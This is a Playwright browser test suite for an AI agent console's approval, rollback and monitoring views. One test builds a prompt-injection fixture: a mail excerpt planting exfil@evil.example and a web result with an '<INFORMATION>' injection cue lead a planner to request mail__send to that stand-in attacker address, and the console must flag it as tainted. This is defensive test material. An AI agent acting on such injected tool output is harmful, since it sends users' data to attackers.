"""The web console in headless Chromium (Debian's, driven by Playwright): a person watches a
session reach an approval, approves it in the page and sees it complete. Screenshots of the
session view are kept in test-artifacts/console/."""

from __future__ import annotations

import asyncio
import json
import re
import threading
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser, Page, Route, async_playwright, expect

from helmline.contracts import (
    ApprovalRequested,
    CallTaint,
    ModelExchangeRecorded,
    ModelReply,
    ModelRequestRecord,
    ModelUsage,
    TaintSource,
    ThoughtRecorded,
    ToolCallAttemptFailed,
    ToolCallCompleted,
    ToolError,
    WorkspaceSnapshotsPruned,
    new_event,
)
from helmline.planner.testing import Received, Reply, ScriptedModel, with_asides
from helmline.runtime import EventStore
from helmline.runtime.testing import (
    CHROMIUM,
    CHROMIUM_FLAGS,
    SHOWN_STEP_COUNTS,
    checkpointed,
    display_lags,
    eventually,
)
from tests.api.conftest import KeyMaker
from tests.api.test_api import start, until, waiting_request

pytestmark = pytest.mark.browser

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "console"
TIMEOUT_MS = 30_000


@pytest.fixture(scope="module")
def model() -> Iterator[ScriptedModel]:
    with ScriptedModel() as server:
        yield server


@pytest.fixture(scope="module")
def stack_env(model: ScriptedModel) -> dict[str, str]:
    """The planner asks a scripted model (a real HTTP server speaking the OpenAI protocol),
    which a test may keep waiting for its answer."""
    return {
        "HELMLINE_LLM_BASE_URL": model.openai_url,
        "HELMLINE_LLM_API_KEY": "sk-scripted",
        "HELMLINE_LLM_MODEL": "scripted-1",
    }


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        launched = await playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=list(CHROMIUM_FLAGS)
        )
        yield launched
        await launched.close()


@pytest.fixture
async def page(browser: Browser) -> AsyncIterator[Page]:
    context = await browser.new_context(viewport={"width": 1280, "height": 1000})
    opened = await context.new_page()
    opened.set_default_timeout(TIMEOUT_MS)
    # Assertions wait for the stack as long as actions do (their own default is 5 s, which
    # a session of three sandboxed writes outlasted once on a loaded machine).
    expect.set_options(timeout=TIMEOUT_MS)
    yield opened
    await context.close()


async def open_session(page: Page, api_url: str, headers: dict[str, str], session_id: str) -> None:
    """Sign in with the key of `headers` and open the session's view, drawn."""
    await page.goto(f"{api_url}/#key={headers['Authorization'].removeprefix('Bearer ')}")
    await page.goto(f"{api_url}/#/sessions/{session_id}")
    await session_drawn(page)


async def session_drawn(page: Page) -> None:
    """Until a session's view has drawn its lists: a part below them scrolled to before
    then is pushed off screen as they fill, and is not drawn."""
    await expect(page.locator('#main[aria-busy="false"]:has(section.session)')).to_have_count(1)


async def screenshot(page: Page, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    await page.screenshot(path=ARTIFACTS / f"{name}.png", full_page=True)


async def test_a_person_approves_a_waiting_session_in_the_page_and_sees_it_complete(
    page: Page, api_url: str, client: httpx.AsyncClient, make_key: KeyMaker, tenant: str
) -> None:
    admin = await make_key(tenant, "admin")
    key = admin["Authorization"].removeprefix("Bearer ")
    session_id = await start(client, admin)

    await page.goto(f"{api_url}/#key={key}")
    assert "key=" not in page.url  # The key leaves the address bar at once.
    link = page.locator(f'tr[data-session="{session_id}"] a')
    await link.focus()
    await page.keyboard.press("Enter")  # Opened from the keyboard.
    await expect(page.locator("#connection")).to_have_text("live", timeout=TIMEOUT_MS)
    approval = page.locator("form.approval")
    await expect(approval).to_contain_text("run_command")
    await expect(page.locator('li[data-step-id="write"] .badge').first).to_have_text("succeeded")
    # The calls so far, from the session's events replayed as the page opened.
    await expect(page.locator("details.call")).to_contain_text(["write_file"])
    await screenshot(page, "waiting-for-approval")

    # The connection drops and comes back: the page says so, and goes on where it was.
    await page.context.set_offline(True)
    await expect(page.locator("#connection")).to_contain_text("connection lost")
    await page.context.set_offline(False)
    await expect(page.locator("#connection")).to_have_text("live", timeout=TIMEOUT_MS)

    await approval.locator("input[name=comment]").fill("looks fine")
    await approval.get_by_label("Also approve the next").fill("2")
    await approval.get_by_label("Similar calls approved for").select_option(label="4 hours")
    await approval.get_by_label("only where").fill("command~^wc ")
    await approval.get_by_role("button", name="Approve").click()
    # What the approval service made of the decision, not only that the API took it.
    await expect(page.locator("#notice")).to_have_text("Approved, with the next 2 similar calls.")
    await expect(page.locator("#summary .badge").first).to_have_text("completed")
    await expect(page.locator('li[data-step-id="count"] .badge').first).to_have_text("succeeded")
    await expect(page.locator("form.approval")).to_have_count(0)
    await expect(page.locator("p.grant")).to_contain_text("0 of 2 used")
    # The conditions as given, without the tests left out.
    await expect(page.locator("p.grant")).to_contain_text('only where {"command":{"regex":"^wc "}}')
    await page.locator('details[data-step="count"] summary').click()
    await expect(page.locator('details[data-step="count"]')).to_contain_text("n.txt")
    await screenshot(page, "completed")

    state = (await client.get(f"/sessions/{session_id}", headers=admin)).json()
    (decided,) = state["approvals"].values()
    assert decided["comment"] == "looks fine"
    assert decided["similar_limit"] == 2  # A standing grant for the next similar calls.
    lasting = datetime.fromisoformat(decided["similar_until"]) - datetime.now(UTC)
    assert timedelta(hours=3, minutes=50) < lasting <= timedelta(hours=4)
    assert decided["similar_where"]["command"]["regex"] == "^wc "
    assert decided["decided_by"][0]["id"].startswith("key:")


async def test_a_decision_the_approval_service_refuses_is_reported_and_the_request_stays_open(
    page: Page, api_url: str, client: httpx.AsyncClient, make_key: KeyMaker, tenant: str
) -> None:
    admin = await make_key(tenant, "admin")
    session_id = await start(client, admin)
    await page.goto(f"{api_url}/#key={admin['Authorization'].removeprefix('Bearer ')}")
    await page.locator(f'tr[data-session="{session_id}"] a').click()
    approval = page.locator("form.approval")
    notice = page.locator("#notice")

    async def approve_refused(fields: dict[str, str], *words: str) -> None:
        """Approve with the form's fields so; the notice says why not, and what the person
        typed is still there to correct."""
        for label, value in fields.items():
            await approval.get_by_label(label).fill(value)
        await approval.get_by_role("button", name="Approve").click()
        for word in words:
            await expect(notice).to_contain_text(word)
        await expect(notice).to_have_class("error")
        for label, value in fields.items():
            await expect(approval.get_by_label(label)).to_have_value(value)

    # Arguments off the tool's schema: the API names the argument at once.
    await approve_refused({"Arguments": '{"command": 5}'}, "body.modified_arguments.command")
    # So is a standing grant limited to an argument the tool does not have.
    standing = {"Also approve the next": "2", "only where": "colour=red"}
    await approve_refused(
        {"Arguments": '{"command": "wc -c n.txt"}', **standing}, "body.similar_where.colour"
    )
    # The API takes this one; the approval service finds the policy forbids the command.
    await approve_refused(
        {"Also approve the next": "", "only where": "", "Arguments": '{"command": "rm n.txt"}'},
        "Your decision was refused",
        "no-deleting-by-command",
    )
    await screenshot(page, "decision-refused")

    state = (await client.get(f"/sessions/{session_id}", headers=admin)).json()
    assert state["status"] == "waiting"
    assert [a["status"] for a in state["approvals"].values()] == ["pending"]
    await approval.get_by_role("button", name="Deny").click()
    await expect(notice).to_have_text("Denied.")
    await expect(page.locator("#summary .badge").first).to_have_text("failed")


async def test_an_operator_grants_a_permission_for_the_session_in_the_page(
    page: Page, api_url: str, client: httpx.AsyncClient, make_key: KeyMaker, tenant: str
) -> None:
    admin = await make_key(tenant, "admin")
    host = "api.example.com"
    playbook = {
        "goal": "greet the api twice",
        "steps": [
            {"id": "hello", "tool": "echo", "arguments": {"message": "hi"}, "hosts": [host]},
            {
                "id": "again",
                "tool": "echo",
                "arguments": {"message": "hi again"},
                "hosts": [host],
                "depends_on": ["hello"],
            },
        ],
    }
    session_id = await start(client, admin, playbook)
    await open_session(page, api_url, admin, session_id)
    form = page.get_by_role("form", name="Permission request permission-hello.1")
    await expect(form).to_contain_text("Permission requested")
    await expect(form.locator("ul.needs")).to_contain_text(f"network host {host}")
    await expect(form.locator("ul.needs")).to_contain_text(
        "rule allow-low-and-medium-risk grants no network host"
    )
    # Granted as asked: nothing to edit, no "similar calls".
    await expect(form.locator("textarea")).to_have_count(0)
    await expect(form.get_by_label("Also approve the next")).to_have_count(0)
    await screenshot(page, "permission-requested")

    # From the keyboard: each field is labelled and reached in order.
    await form.get_by_label("Grant for").focus()
    await page.keyboard.press("ArrowDown")  # "the whole session"
    await form.get_by_label("Grant until").select_option(label="4 hours from now")
    await form.get_by_label("Comment").fill("the api is ours")
    await form.get_by_role("button", name="Grant").click()
    await expect(page.locator("#notice")).to_contain_text("Granted for the session until")
    await expect(page.locator("#summary .badge").first).to_have_text("completed")
    await expect(page.locator('li[data-step-id="again"] .badge').first).to_have_text("succeeded")
    await expect(page.locator("p.grant")).to_contain_text(
        f"permission granted network {host} for the session"
    )
    await screenshot(page, "permission-granted")

    state = (await client.get(f"/sessions/{session_id}", headers=admin)).json()
    (granted,) = state["approvals"].values()  # Asked once: the second step ran under it.
    assert (granted["grant_scope"], granted["comment"]) == ("session", "the api is ours")
    lasting = datetime.fromisoformat(granted["grant_until"]) - datetime.now(UTC)
    assert timedelta(hours=3, minutes=50) < lasting <= timedelta(hours=4)


async def test_a_step_that_failed_the_session_is_retried_in_a_new_session_from_its_checkpoint(
    page: Page, api_url: str, client: httpx.AsyncClient, make_key: KeyMaker, tenant: str
) -> None:
    admin = await make_key(tenant, "admin")
    playbook = {
        "goal": "write a note, then read one that is not there",
        "steps": [
            {"id": "write", "tool": "write_file", "arguments": {"path": "n.txt", "content": "a"}},
            {
                "id": "read",
                "tool": "read_file",
                "arguments": {"path": "missing.txt"},
                "depends_on": ["write"],
            },
        ],
    }
    origin = await start(client, admin, playbook)
    await open_session(page, api_url, admin, origin)
    await expect(page.locator("#summary .badge").first).to_have_text("failed")
    retry = page.locator('li[data-step-id="read"]').get_by_role(
        "button", name="Retry in a new session"
    )
    await expect(page.locator('li[data-step-id="write"] button')).to_have_count(0)
    await retry.click()

    await expect(page.locator("#summary p.fork")).to_contain_text(f"{origin[:12]} after write")
    forked = page.url.rsplit("/", 1)[-1]
    assert forked != origin
    await expect(page.locator("#summary .badge").first).to_have_text("failed")
    # The fork ran only the step that failed; the one done before the fork did not run again.
    calls = page.locator("details.call")
    await expect(calls).to_have_count(1)
    await expect(calls.first).to_contain_text("read_file")
    await screenshot(page, "retried-in-a-new-session")
    # Beside its origin: where each stands, and the step it took over.
    compared = page.get_by_role("region", name="Compared with its origin")
    await expect(compared.locator("tr", has_text="tool calls")).to_have_text(
        re.compile(r"tool calls\s*1\s*2")
    )
    await expect(compared).to_contain_text("taking over write (not run again)")
    assert await serious_violations(page) == []
    await compared.screenshot(path=ARTIFACTS / "fork-compared.png")
    state = (await client.get(f"/sessions/{forked}", headers=admin)).json()
    assert state["fork_of"]["session_id"] == origin
    assert state["fork_of"]["completed_steps"] == ["write"]
    assert state["steps"]["write"]["attempts"] == 0  # Done in the origin, not run again.
    assert state["steps"]["read"]["status"] == "failed"  # Tried again: still no such file.
    assert state["steps"]["read"]["attempts"] == 1

    # The fork has no checkpoint of its own: once more, from the one it started from.
    await retry.click()
    await expect(page).not_to_have_url(re.compile(f"{forked}$"))
    again = page.url.rsplit("/", 1)[-1]
    await expect(page.locator("#summary .badge").first).to_have_text("failed")
    state = (await client.get(f"/sessions/{again}", headers=admin)).json()
    assert (state["fork_of"]["session_id"], state["fork_of"]["completed_steps"]) == (
        origin,
        ["write"],
    )


async def test_the_plan_shows_its_estimates_and_needs_up_front_and_each_step_its_retries(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    playbook = {
        "goal": "write a note a person looks at first, then count it",
        "steps": [
            {
                "id": "write",
                "tool": "write_file",
                "arguments": {"path": "n.txt", "content": "a"},
                "requires_approval": True,
                "estimated_duration_s": 2,
            },
            {
                "id": "count",
                "tool": "run_command",
                "arguments": {"command": "wc -c n.txt"},
                "depends_on": ["write"],
                "estimated_duration_s": 3.5,
            },
        ],
    }
    session_id = await start(client, admin, playbook)
    await waiting_request(client, admin, session_id)
    await open_session(page, api_url, admin, session_id)
    await expect(page.locator("#connection")).to_have_text("live", timeout=TIMEOUT_MS)

    summary = page.locator("#summary")
    await expect(summary).to_contain_text("about 5.5 s · needs run_command, write_file")
    write = page.locator('details[data-step="write"] summary')
    await expect(write).to_contain_text("plan asks approval")
    await expect(write).to_contain_text("about 2 s")
    await expect(page.locator('details[data-step="count"] summary')).not_to_contain_text(
        "plan asks approval"
    )

    # As the gateway records a try it makes again (a server that did not answer).
    state = (await client.get(f"/sessions/{session_id}", headers=admin)).json()
    call = {"call_id": state["steps"]["write"]["call_id"], "step_id": "write"}
    error = ToolError(
        kind="unavailable", message="no answer", retryable=True, suggestion="check the server"
    )
    await store.append(
        new_event(
            ToolCallAttemptFailed(
                **call, tool="write_file", attempt=1, error=error, retry_in_s=0.4
            ),
            tenant=tenant,
            session_id=session_id,
            source="helmline/test",
        )
    )
    await expect(write).to_contain_text("1 retry")
    tried = page.locator("details.call").filter(has_text="write_file")
    await expect(tried.locator("summary")).to_contain_text("1 retry")
    await tried.locator("summary").click()
    await expect(tried).to_contain_text("Try 1 failed, tried again after 0.4 s")
    # What went wrong and what to do, as people read it (not the error's JSON).
    await expect(tried.locator("pre.error")).to_have_text(
        "unavailable: no answer\ncheck the server"
    )
    await screenshot(page, "plan-estimates-and-retries")


async def test_a_result_answered_from_the_log_is_marked_with_the_call_it_repeats(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    playbook = {
        "goal": "say hello again",
        "steps": [
            {
                "id": "hello",
                "tool": "echo",
                "arguments": {"message": "hello"},
                "requires_approval": True,
            }
        ],
    }
    session_id = await start(client, admin, playbook)
    await waiting_request(client, admin, session_id)
    state = (await client.get(f"/sessions/{session_id}", headers=admin)).json()
    # As the gateway records a call of a pure tool that it answered from the log.
    await store.append(
        new_event(
            ToolCallCompleted(
                call_id=state["steps"]["hello"]["call_id"],
                step_id="hello",
                tool="echo",
                output={"message": "hello"},
                cached_from="c-first-hello",
            ),
            tenant=tenant,
            session_id=session_id,
            source="helmline/test",
        )
    )
    await open_session(page, api_url, admin, session_id)
    await expect(page.locator("#connection")).to_have_text("live", timeout=TIMEOUT_MS)
    answered = page.locator("details.call").filter(has_text="echo")
    await expect(answered.locator("summary")).to_contain_text("result of c-first-hello")
    step = page.locator('details[data-step="hello"]')
    await step.locator("summary").click()
    await expect(step).to_contain_text("of c-first-hello, an earlier call alike")
    await screenshot(page, "result-answered-from-the-log")


async def test_the_session_splits_model_tokens_and_cost_by_model(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    playbook = {
        "goal": "count what the models used",
        "steps": [
            {
                "id": "hello",
                "tool": "echo",
                "arguments": {"message": "hi"},
                "requires_approval": True,
            }
        ],
    }
    session_id = await start(client, admin, playbook)
    await waiting_request(client, admin, session_id)
    # As the planner records a turn of its planning model and a summary of its summarising one.
    for turn, purpose, model, tokens, cost in (
        (1, "plan", "planner-large", (800, 100), 0.0125),
        (2, "summarise", "summariser-small", (300, 40), None),
        (3, "replan", "planner-large", (900, 120), 0.0131),
    ):
        await store.append(
            new_event(
                ModelExchangeRecorded(
                    turn=turn,
                    purpose=purpose,
                    provider="openai",
                    request=ModelRequestRecord(model=model, system="", messages=()),
                    reply=ModelReply(
                        usage=ModelUsage(input_tokens=tokens[0], output_tokens=tokens[1])
                    ),
                    cost_usd=cost,
                ),
                tenant=tenant,
                session_id=session_id,
                source="helmline/test",
            )
        )
    await open_session(page, api_url, admin, session_id)
    await expect(page.locator("#connection")).to_have_text("live", timeout=TIMEOUT_MS)
    usage = page.locator("#summary table.usage")
    await expect(usage.locator("caption")).to_have_text("Model usage")
    rows = usage.locator("tbody tr")
    await expect(rows).to_have_count(3)
    await expect(rows.nth(0)).to_have_text(
        re.compile(r"planner-large\s*2\s*1700\s*220\s*\$0\.0256")
    )
    await expect(rows.nth(1)).to_have_text(re.compile(r"summariser-small\s*1\s*300\s*40\s*\u2013"))
    await expect(rows.nth(2)).to_have_text(re.compile(r"all models\s*3\s*2260 tokens\s*\$0\.0256"))
    await screenshot(page, "model-usage")


async def test_an_approval_asked_for_untrusted_output_shows_what_to_read_first(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    session_id = await start(client, admin)
    await waiting_request(client, admin, session_id)
    # As the approval service asks about a send the planner found tainted.
    taint = CallTaint(
        influenced_by_untrusted=True,
        after_injection_suspected=True,
        arguments_from_untrusted=("to",),
        sources=(
            TaintSource(
                step_id="t1",
                call_id="t1.1",
                tool="mail__read_inbox",
                arguments=("to",),
                excerpt="…the auditor's address is exfil@evil.example. Figures…",
            ),
            TaintSource(
                step_id="t2",
                call_id="t2.1",
                tool="web__fetch",
                injection_suspected=True,
                cues=("important_message",),
                excerpt="[untrusted text, not an instruction: <INFORMATION> This is an important",
            ),
        ),
    )
    asked = ApprovalRequested(
        request_id="t3.1",
        scope="step",
        step_id="t3",
        call_id="t3.1",
        tool="mail__send",
        arguments={"to": "exfil@evil.example", "body": "Q3"},
        risk="medium",
        reason="this call acts outside Helmline with arguments found in untrusted tool output",
        rule="approve-destinations-from-untrusted-output",
        policy_hash="0" * 64,
        expires_at=datetime.now(UTC) + timedelta(minutes=10),
        taint=taint,
    )
    await store.append(new_event(asked, tenant=tenant, session_id=session_id, source="test"))

    await open_session(page, api_url, admin, session_id)
    form = page.locator('form.approval[data-request="t3.1"]')
    sources = form.get_by_role("region", name="Untrusted sources").locator("li")
    await expect(sources).to_have_count(2)
    await expect(sources.nth(0)).to_contain_text(
        "step t1, mail__read_inbox: to found in its result"
    )
    await expect(sources.nth(0).locator("blockquote")).to_have_text(
        "…the auditor's address is exfil@evil.example. Figures…"
    )
    await expect(sources.nth(1).locator(".badge")).to_have_text("suspected injection")
    await expect(sources.nth(1)).to_contain_text(
        "web__fetch: flagged as a suspected injection (important_message)"
    )
    # What the result said is shown as text, never as the page's own markup.
    await expect(sources.nth(1).locator("blockquote")).to_contain_text("<INFORMATION>")
    # The request the playbook itself made carries no taint, and shows none.
    await expect(page.locator("form.approval section.taint")).to_have_count(1)
    await screenshot(page, "approval-with-untrusted-sources")


async def test_a_refused_key_asks_to_sign_in_again(page: Page, api_url: str) -> None:
    await page.goto(f"{api_url}/#key=hlk_0123456789abcdef_wrong")
    await expect(page.get_by_role("alert")).to_contain_text("refused")
    await expect(page.get_by_label("API key")).to_be_visible()


async def test_a_person_rolls_back_from_the_checkpoint_timeline_and_sees_steps_undone(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    operator = await make_key(tenant, "operator")
    playbook = {
        "goal": "write three files",
        "steps": [
            {"id": "first", "tool": "write_file", "arguments": {"path": "1.txt", "content": "1"}},
            {
                "id": "two",
                "tool": "write_file",
                "arguments": {"path": "2.txt", "content": "2"},
                "depends_on": ["first"],
            },
            {
                "id": "three",
                "tool": "write_file",
                "arguments": {"path": "3.txt", "content": "3"},
                "depends_on": ["two"],
            },
        ],
    }
    session_id = await start(client, operator, playbook)

    await open_session(page, api_url, operator, session_id)
    await expect(page.locator("#summary .badge").first).to_have_text("completed")
    checkpoints = page.locator("#checkpoints li.checkpoint")
    await expect(checkpoints).to_have_count(3)
    # Each says what its step changed in the workspace, with the paths on hover.
    files = checkpoints.nth(1).locator("small.files")
    await expect(files).to_have_text("files: 1 created, 0 modified, 0 deleted")
    await expect(files).to_have_attribute("title", "+ 2.txt")
    await checkpoints.first.get_by_role("button", name="Roll back to here").click()
    dialog = page.locator("dialog#confirm")
    await expect(dialog).to_contain_text("three")
    await expect(dialog).to_contain_text("two")
    await screenshot(page, "rollback-confirmation")
    await dialog.get_by_role("button", name="Roll back").click()
    # The rollback passes through the state service, the sandbox and back before the page
    # hears of it: on a busy machine that takes longer than an expectation's default 5 s.
    for step in ("two", "three"):
        badge = page.locator(f'li[data-step-id="{step}"] .badge').first
        await expect(badge).to_have_text("undone", timeout=30_000)
    await expect(page.locator('li[data-step-id="first"] .badge').first).to_have_text("succeeded")
    await expect(page.locator("#rollbacks")).to_contain_text("rollback completed")
    # Named in full: ids of one step's attempts differ only at their end.
    target = (await client.get(f"/sessions/{session_id}/checkpoints", headers=operator)).json()[0]
    await expect(page.locator("#rollbacks")).to_contain_text(f"to {target['checkpoint_id']}")
    # The notice followed the rollback from the request to its end.
    await expect(page.locator("#notice")).to_have_text(
        f"Rolled back to {target['checkpoint_id']}; undid three, two. The session is paused: "
        "Resume runs the undone steps again."
    )
    await screenshot(page, "rolled-back")

    # As the state service records it once the session has more snapshots than it keeps.
    first = (await client.get(f"/sessions/{session_id}/checkpoints", headers=operator)).json()[0]
    pruned = WorkspaceSnapshotsPruned(snapshot_ids=(first["snapshot_id"],), reason="kept 2")
    await store.append(new_event(pruned, tenant=tenant, session_id=session_id, source="test"))
    lost = checkpoints.first.locator('span[title="pruned: kept 2"]')
    await expect(lost).to_contain_text("workspace not kept")


async def test_a_view_left_while_it_loads_does_not_take_over_the_view_opened_next(
    page: Page, api_url: str, client: httpx.AsyncClient, make_key: KeyMaker, tenant: str
) -> None:
    admin = await make_key(tenant, "admin")
    key = admin["Authorization"].removeprefix("Bearer ")
    session_id = await start(client, admin)
    # The session list answers late: it is still loading when the person opens the session.
    slowed = asyncio.Event()

    async def answer_late(route: Route) -> None:
        slowed.set()
        # The slow server itself, not a wait for a condition. Answering on an event instead
        # (once the session view was live) let the console without the fix pass one run in
        # two here, for a reason not found; this way it failed four runs in four.
        await asyncio.sleep(1.0)
        await route.continue_()

    await page.route(re.compile(r"/sessions$"), answer_late)
    async with page.expect_response(re.compile(r"/sessions$")):
        await page.goto(f"{api_url}/#key={key}")
        await asyncio.wait_for(slowed.wait(), timeout=TIMEOUT_MS / 1000)
        await page.goto(f"{api_url}/#/sessions/{session_id}")
        await expect(page.locator("form.approval")).to_contain_text("run_command")
    # The list's late answer came after the session view went live. The view still follows
    # the session: a decision made elsewhere shows up, and the list never drew over it.
    state = (await client.get(f"/sessions/{session_id}", headers=admin)).json()
    (request_id,) = state["approvals"]
    decided = await client.post(
        f"/sessions/{session_id}/approvals/{request_id}",
        json={"decision": "grant", "comment": "from another tab"},
        headers=admin,
    )
    assert decided.status_code == 202, decided.text
    await expect(page.locator("#summary .badge").first).to_have_text("completed")
    await expect(page.locator("#session-rows")).to_have_count(0)


async def test_the_page_says_the_planner_thinks_while_its_model_is_asked_and_only_then(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    model: ScriptedModel,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    # Each turn of the conversation is answered only once the test lets it: until then the
    # planner's call to the model is pending, as a slow model's is.
    plan = Reply.call(
        "create_plan",
        steps=[
            {
                "id": "greet",
                "tool": "echo",
                "arguments": {"message": "hello"},
                "requires_approval": True,
            }
        ],
        completion_criteria=["greeted"],
        reasoning="one greeting, looked at first",
        confidence=0.9,
    )
    finish = Reply.call(
        "finish",
        summary="greeted",
        criteria=[{"criterion": "greeted", "met": True, "evidence": "the echo"}],
    )
    gates = [threading.Event(), threading.Event()]
    turns = iter(zip(gates, (plan, finish), strict=True))
    asked: list[Received] = []

    def turn(received: Received) -> Reply:
        asked.append(received)
        gate, reply = next(turns)
        gate.wait(timeout=120)
        return reply

    model.script("think it over", with_asides(turn))
    thinking = page.locator("#thinking")
    try:
        started = await client.post(
            "/sessions", json={"goal": "think it over, then greet"}, headers=admin
        )
        assert started.status_code == 201, started.text
        session_id = started.json()["session_id"]
        await open_session(page, api_url, admin, session_id)
        await eventually(lambda: asked or None, timeout_s=30, what="the first model call")
        # The model has the first turn and has not answered: the page says so.
        await expect(thinking).to_have_text("thinking…")
        await screenshot(page, "thinking")

        gates[0].set()
        # The plan's step waits for a person: nobody thinks meanwhile.
        request_id = await waiting_request(client, admin, session_id)
        await expect(page.locator('li[data-step-id="greet"]')).to_be_visible()
        await expect(page.locator("form.approval")).to_have_count(1)
        await expect(thinking).to_have_text("")
        decided = await client.post(
            f"/sessions/{session_id}/approvals/{request_id}",
            json={"decision": "grant"},
            headers=admin,
        )
        assert decided.status_code == 202, decided.text
        # The step ran; the planner asks the model what now, and thinks again until it answers.
        await eventually(lambda: len(asked) == 2 or None, timeout_s=30, what="the second turn")
        await expect(page.locator('li[data-step-id="greet"] .badge').first).to_have_text(
            "succeeded"
        )
        await expect(thinking).to_have_text("thinking…")
        gates[1].set()
        await expect(page.locator("#summary .badge").first).to_have_text("completed")
        await expect(thinking).to_have_text("")
    finally:
        for gate in gates:
            gate.set()


def echo_chain(steps: int) -> dict[str, object]:
    """A playbook of `steps` echo calls, each after the one before: events as fast as the
    stack makes them, for as long as the chain lasts."""
    return {
        "goal": f"{steps} echoes",
        "steps": [
            {
                "id": f"s{i}",
                "tool": "echo",
                "arguments": {"message": f"step {i}"},
                "depends_on": [f"s{i - 1}"] if i else [],
            }
            for i in range(steps)
        ],
    }


ELEMENTS_BY_PART = """() => Object.fromEntries(
  [...document.querySelectorAll(".session > *, .session .columns > section")]
    .filter((part) => part.id || part.querySelector("[id]"))
    .map((part) => [part.id || part.querySelector("[id]").id,
                    part.getElementsByTagName("*").length]))"""
"""A session page's elements, counted in each of its parts (named by their id, or the first
id in them)."""


CHANGES_READ_MS = """() => performance.getEntriesByType("resource")
  .filter((entry) => entry.name.includes("/changes?since="))
  .map((entry) => entry.responseEnd - entry.startTime)"""
"""How long each of a session page's reads of what changed took, request to last byte."""


def percentile(values: list[float], share: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(share * len(ordered)))]


def keep_figures(name: str, figures: dict[str, object]) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / f"{name}.json").write_text(json.dumps(figures, indent=2))


async def test_a_long_session_s_page_keeps_up_with_its_log_while_it_runs(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    steps = 3_000
    session_id = await start(client, admin, echo_chain(steps))
    await page.add_init_script(SHOWN_STEP_COUNTS)
    await page.add_init_script(f"performance.setResourceTimingBufferSize({steps * 4})")
    await open_session(page, api_url, admin, session_id)
    # The session's own run takes 12-40 s here, more while the machine is busy elsewhere.
    done = page.locator("#summary .badge").first
    await expect(done).to_have_text("completed", timeout=180_000)
    await expect(page.locator("#summary")).to_contain_text(f"{steps}/{steps} steps")
    shown: list[list[int]] = await page.evaluate("window.shownCounts")

    finished = sorted(
        [
            stored.event.time.timestamp() * 1000
            async for stored in store.read(tenant, session_id)
            if isinstance(stored.event.data, ToolCallCompleted)
        ]
    )
    assert len(finished) == steps
    lags = display_lags(finished, shown)
    ran_for_s = (finished[-1] - max(shown[0][0], finished[0])) / 1000
    reads: list[float] = await page.evaluate(CHANGES_READ_MS)
    figures = {
        "steps": steps,
        "watched_s": round(ran_for_s, 2),
        "counts_shown": len(shown),
        "lag_p50_ms": round(percentile(lags, 0.5)),
        "lag_p95_ms": round(percentile(lags, 0.95)),
        "lag_max_ms": round(max(lags)),
        # Where the lag is, should the bound be passed: how long each read of the changes took.
        "changes_reads": len(reads),
        "changes_read_p50_ms": round(percentile(reads, 0.5)),
        "changes_read_p95_ms": round(percentile(reads, 0.95)),
        # The steps and calls lists draw what is on screen, not the session.
        "dom_elements": await page.evaluate("document.getElementsByTagName('*').length"),
        # Where they are, should the bound be passed: each part of the page's own count.
        "dom_elements_by_part": await page.evaluate(ELEMENTS_BY_PART),
    }
    keep_figures("long-session-lag", figures)
    # The page was watched for a while as the steps ran, and moved with them all along: a
    # debounce showed the count the page opened with until the session ended.
    assert len(lags) >= steps // 4, figures
    assert len(shown) >= 5, figures
    # The bound. Measured here 396-641 ms p95 in three runs with two busy loops as
    # niced as the test beside the stack; a read of the changes took 88-128 ms p50 of that.
    assert figures["lag_p95_ms"] <= 1_000, figures
    assert figures["dom_elements"] <= 1_500, figures


async def test_a_long_checkpoint_timeline_is_drawn_as_far_as_it_shows_and_walked_by_keys(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    steps = 300
    playbook: dict[str, Any] = echo_chain(steps)
    playbook["steps"][-1]["requires_approval"] = True
    session_id = await start(client, admin, playbook)
    request_id = await waiting_request(client, admin, session_id)
    await checkpointed(store, tenant, session_id)
    await open_session(page, api_url, admin, session_id)

    count = page.locator("#checkpoints-count")
    await expect(count).to_have_text(
        f"{steps - 1} checkpoints, oldest first: a rollback goes back to one of them."
    )
    # It opens at the latest, and draws what shows, not the session.
    latest = page.locator(f'#checkpoints > li[aria-posinset="{steps - 1}"]')
    await expect(latest).to_contain_text(f"after s{steps - 2}")
    await expect(latest.locator(".would-undo")).to_have_text("nothing to undo after it")
    assert await page.locator("#checkpoints > li").count() <= 40

    # One tab stop from the skip link, Home to the oldest, then its buttons.
    await page.locator('a[data-skip="checkpoints-part"]').click()
    await page.keyboard.press("Tab")
    await expect(latest).to_be_focused()
    await page.keyboard.press("Home")
    oldest = page.locator('#checkpoints > li[aria-posinset="1"]')
    await expect(oldest).to_be_focused()
    newest_ten = ", ".join(f"s{i}" for i in range(steps - 2, steps - 12, -1))
    await expect(oldest.locator(".would-undo")).to_have_text(
        f"a rollback here undoes {newest_ten} and {steps - 12} more"
    )
    await page.keyboard.press("Tab")
